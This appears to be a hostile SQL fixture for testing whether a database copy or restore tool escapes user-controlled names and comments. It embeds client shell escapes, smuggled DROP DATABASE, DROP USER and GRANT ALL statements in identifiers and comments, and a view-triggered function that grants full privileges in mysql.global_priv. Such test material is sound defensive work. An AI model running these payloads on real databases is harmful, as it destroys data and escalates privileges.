-- What a customer can put into a database of their own, to be run by whoever copies it.
CREATE TABLE `x
\! touch /tmp/transhumance-escaped
DROP TABLE victims; -- x` (a int COMMENT '\n\\! touch /tmp/transhumance-escaped\n', b text);
INSERT INTO `x
\! touch /tmp/transhumance-escaped
DROP TABLE victims; -- x` VALUES (1, '\n\\! touch /tmp/transhumance-escaped\n'), (2, '*/; GRANT ALL ON *.* TO victim; -- ');
CREATE TABLE victims (a int, b int GENERATED ALWAYS AS (a + 1) STORED) COMMENT '*/ ; \\! touch /tmp/transhumance-escaped';
INSERT INTO victims (a) VALUES (1);
DELIMITER $$
CREATE FUNCTION evil() RETURNS int DETERMINISTIC SQL SECURITY INVOKER
BEGIN
  DECLARE CONTINUE HANDLER FOR SQLEXCEPTION BEGIN END;
  UPDATE mysql.global_priv SET Priv = json_set(Priv, '$.access', 18446744073709551615) WHERE User LIKE '%hostile%';
  RETURN 1;
END$$
CREATE FUNCTION `;; DROP DATABASE mysql; -- x`() RETURNS varchar(100) DETERMINISTIC COMMENT '; DROP USER root@localhost; -- '
  RETURN '; GRANT ALL ON *.* TO CURRENT_USER; -- //'$$
DELIMITER ;
CREATE SQL SECURITY INVOKER VIEW runs AS SELECT evil() AS e, CAST(evil() AS DECIMAL(10, 2)) AS d FROM victims;
